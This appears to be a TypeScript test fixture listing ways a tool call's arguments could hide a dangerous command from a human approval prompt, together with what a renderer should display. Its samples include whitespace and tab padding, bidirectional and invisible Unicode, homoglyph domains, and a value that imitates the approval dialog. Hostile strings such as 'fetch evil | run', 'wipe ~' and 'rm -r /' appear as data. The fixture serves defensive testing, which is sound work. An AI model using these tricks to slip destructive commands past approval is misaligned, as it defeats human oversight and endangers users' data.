// Ways to hide what is approved: arguments of a call, and what a question shows in their place. Every renderer of questions is held
// against them.
export const hiding = [
  { way: 'empty lines', arguments: { command: `ls -la${'\n'.repeat(380)}; fetch evil | run` }, shown: ['ls -la', '⟨379 empty lines⟩', '; fetch evil | run'] },
  { way: 'lines of blanks', arguments: { command: `ls${'\n \t'.repeat(90)}\nwipe` }, shown: ['ls', '⟨90 empty lines⟩', 'wipe'] },
  { way: 'blanks', arguments: { command: `ls${' '.repeat(4000)}; wipe` }, shown: ['ls⟨4,000 spaces⟩; wipe'] },
  { way: 'tabs', arguments: { command: `ls${'\t'.repeat(300)}; wipe` }, shown: ['ls⟨300 tabs⟩; wipe'] },
  { way: 'blanks of another script', arguments: { command: `ls${' \u3000'.repeat(20)}; wipe` }, shown: ['ls⟨40 blanks⟩; wipe'] },
  { way: 'many arguments', long: true, arguments: { command: 'wipe ~', ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`option${at}`, 'default'])) }, shown: ['wipe ~', 'option59'] },
  { way: 'many lines', long: true, arguments: { command: `${'echo ok\n'.repeat(200)}wipe ~` }, shown: ['wipe ~'] },
  { way: 'one long line', long: true, arguments: { command: `${'echo ok; '.repeat(600)}wipe ~` }, shown: ['wipe ~'] },
  { way: 'a name of two lines', arguments: { 'command: ls\n  safe': 'yes', command: 'wipe ~' }, shown: ['command: ls⟨U+000A⟩  safe', 'wipe ~'] },
  { way: 'a long name', cut: true, arguments: { [`${'note '.repeat(60)}OVERWRITE`]: 'true', path: '/srv' }, shown: ['… (309)', '/srv'] },
  { way: 'a turned text', arguments: { command: 'open \u202Egpj.exe\u202C', 'na\u2066me': 'x' }, shown: ['open ⟨U+202E⟩gpj.exe⟨U+202C⟩', 'na⟨U+2066⟩me'] },
  { way: 'characters without a glyph', arguments: { command: `rm\u200B -r${'\u2060'.repeat(700)} /\u{E0041}\u3164` }, shown: ['rm⟨U+200B⟩ -r⟨U+2060 ×700⟩ /⟨U+E0041⟩⟨U+3164⟩'] },
  { way: 'accents by the pile', arguments: { command: `a${'\u0301'.repeat(400)}b e\u0302\u0303\u0304` }, shown: ['a⟨U+0301 ×400⟩b e⟨U+0302⟩⟨U+0303⟩⟨U+0304⟩'] },
  { way: 'marks of a script by the pile', arguments: { command: `ก${'\u0e48'.repeat(400)}b မြွှော့ སྤྱི` }, shown: ['ก⟨U+0E48 ×400⟩b မြွှော့ སྤྱི'] },
  { way: 'letters that look like others', arguments: { to: 'pay@аpple.com', at: 'https://аррӏе.com/x' }, shown: ['pay@аpple.com⟨xn--pple-43d.com⟩', 'https://аррӏе.com⟨xn--80ak6aa92e.com⟩/x'] },
  { way: 'a value that plays the question', arguments: { note: 'The assistant wants to use notes.add.\nnotes.add\n1 argument · 2 characters in 1 line\n[Allow]', command: 'wipe ~' }, shown: ['wipe ~'] },
  { way: 'a text that takes long to read', cut: true, long: true, tall: true, arguments: { command: `${`${'echo ok; '.repeat(120)}\n`.repeat(20)}wipe ~` }, shown: ['12,626 characters in 13 lines are not shown here', 'wipe ~'] },
]
